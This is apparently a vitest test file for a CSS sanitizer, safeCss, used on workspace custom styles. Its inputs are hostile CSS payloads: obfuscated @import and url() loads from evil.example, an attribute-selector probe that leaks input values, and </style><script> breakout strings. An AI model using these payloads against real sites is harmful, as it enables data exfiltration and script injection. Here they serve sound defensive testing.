// CSS of a workspace: harmless rules stay, whatever loads from elsewhere or breaks out goes.

import { describe, expect, it } from 'vitest'
import { safeCss } from './custom-css.ts'

describe('stays as it is', () => {
  it.each([
    '.title{color:#123;letter-spacing:0.02em}',
    '@media (width < 600px){.title{font-size:20px}}',
    '.logo{background:url(/api/v1/public-files/abc)}',
    '.logo{background:url("data:image/png;base64,AAAA")}',
    '.quote::before{content:"\\201C; }"}',
    '.a[title="a;b"]{color:red}',
  ])('%s', (css) => {
    expect(safeCss(css)).toBe(css)
  })
})

describe('is taken out', () => {
  it.each([
    ['@import "https://evil.example/a.css";.a{color:red}', '.a{color:red}'],
    ['@\\69mport url(x.css);.a{color:red}', '.a{color:red}'],
    ['.a{background:url(https://evil.example/a.png);color:red}', '.a{color:red}'],
    ['.a{background:url(//evil.example/a.png)}', '.a{}'],
    ['.a{background:url("/\\\\evil.example/a.png")}', '.a{}'],
    ['.a{background:\\75rl(https://evil.example)}', '.a{}'],
    ['.a{background:u/**/rl(https://evil.example)}', '.a{background:u rl(https://evil.example)}'],
    ['.a{background:image-set("https://evil.example/a.png" 1x)}', '.a{}'],
    ['input[value^="a"]{background:URL( \'http://evil.example/a\' )}', 'input[value^="a"]{}'],
    ['.a{color:red}/* never closed', '.a{color:red}'],
    ['.a{background:url("/\t/evil.example/a.png")}', '.a{}'],
    ['.a{background:url("/\\9/evil.example/a.png")}', '.a{}'],
    ['.a{background:\\75\r\nrl(https://evil.example)}', '.a{}'],
    ['background:ur}l(//evil.example)', 'background:ur l(//evil.example)'],
    ['@im}port "//evil.example/a.css"', '@im port "//evil.example/a.css"'],
  ])('%s', (css, safe) => {
    expect(safeCss(css)).toBe(safe)
  })
})

describe('cannot break out', () => {
  it.each([
    ['.a{color:red}</style><script>alert(1)</script>', '.a{color:red}<\\/style><script>alert(1)<\\/script>'],
    ['.a{}<<!--/style><script>alert(1)</script>', '.a{}< /style><script>alert(1)<\\/script>'],
    ['/}* {*/} b{}', '/ * {*/} b{}'],
    ['}}.a{color:red}', '.a{color:red}'],
    ['.a{color:red', '.a{color:red}'],
    ['@media print{.a{color:red}', '@media print{.a{color:red}}'],
  ])('%s', (css, safe) => {
    expect(safeCss(css)).toBe(safe)
  })
})
